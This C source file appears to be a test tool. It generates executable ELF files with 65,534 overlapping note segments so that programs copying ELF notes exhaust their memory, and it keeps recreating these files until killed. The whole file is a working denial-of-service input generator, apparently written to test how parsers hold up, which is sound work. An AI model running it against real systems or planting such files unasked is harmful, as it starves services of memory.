/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * attack-notes DIRECTORY [FILE]: map files executable that have 65,534 overlapping notes of 64
 * KiB each, a new one each time, until it is killed: who copies each note that a program header
 * names needs 4 GiB for a file of 4 MiB. With FILE it makes that file only. With
 * ATTACK_WAY=honest in the environment they have one note.
 */

#include <elf.h>
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#define FILE_SIZE ((size_t)4 << 20)
#define N_NOTES   65534u
#define NOTE_SIZE 65536u

/* Whoever looks for a build-id walks over all of them: they are of another type. */
static void make(uint8_t bytes[static FILE_SIZE])
{
	const char *way = getenv("ATTACK_WAY");
	const Elf64_Ehdr e = {
		.e_ident = { ELFMAG0, ELFMAG1, ELFMAG2, ELFMAG3, ELFCLASS64, ELFDATA2LSB,
			     EV_CURRENT },
		.e_type = ET_DYN,
		.e_machine = EM_X86_64,
		.e_version = EV_CURRENT,
		.e_phoff = sizeof(e),
		.e_ehsize = sizeof(e),
		.e_phentsize = sizeof(Elf64_Phdr),
		.e_phnum = way && strcmp(way, "honest") == 0 ? 2 : N_NOTES,
	};
	Elf64_Phdr *headers = (Elf64_Phdr *)(bytes + sizeof(e));

	memcpy(bytes, &e, sizeof(e));
	headers[0] = (Elf64_Phdr){ .p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_filesz = 4096 };
	for (unsigned i = 1; i < N_NOTES; i++)
		/* Odd, so that they cannot be used where they are. */
		headers[i] = (Elf64_Phdr){
			.p_type = PT_NOTE,
			.p_offset = i * 4 + 1,
			.p_filesz = NOTE_SIZE,
			.p_align = 4,
		};
}

static void write_file(const char *path, const uint8_t *bytes)
{
	const int fd = open(path, O_RDWR | O_CREAT | O_TRUNC, 0755);

	if (fd < 0 || write(fd, bytes, FILE_SIZE) != (ssize_t)FILE_SIZE)
		err(1, "%s", path);
	/* It stays mapped. */
	if (mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
		err(1, "mmap");
	(void)close(fd);
}

int main(int argc, char **argv)
{
	static uint8_t bytes[FILE_SIZE];
	char path[4096];

	if (argc < 2)
		errx(2, "Usage: attack-notes DIRECTORY [FILE]");
	make(bytes);
	for (unsigned i = 0;; i++) {
		if (argc > 2) {
			(void)snprintf(path, sizeof(path), "%s/%s", argv[1], argv[2]);
			write_file(path, bytes);
			return 0;
		}
		(void)snprintf(path, sizeof(path), "%s/notes.%u", argv[1], i);
		write_file(path, bytes);
		(void)unlink(path);
		(void)nanosleep(&(struct timespec){ .tv_nsec = 200000000 }, NULL);
	}
}
